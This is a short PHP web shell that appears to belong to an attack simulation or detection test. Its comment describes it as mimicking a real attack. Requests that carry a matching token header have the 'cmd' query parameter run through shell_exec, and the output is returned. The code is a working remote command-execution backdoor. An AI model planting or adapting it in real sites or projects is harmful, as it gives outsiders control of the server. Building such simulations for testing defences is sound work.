<?php
// The web shell: runs what it is sent, and only for who has this run's token. The commands are children of php-fpm, as in a real attack.
$token = trim((string) @file_get_contents('/etc/sim-token/token'));
if ($token === '' || !hash_equals($token, (string) ($_SERVER['HTTP_X_SIM_TOKEN'] ?? ''))) {
    http_response_code(403);
    exit;
}
$command = $_GET['cmd'] ?? '';
if (!is_string($command) || $command === '') {
    http_response_code(400);
    exit;
}
header('Content-Type: text/plain; charset=utf-8');
echo shell_exec($command);
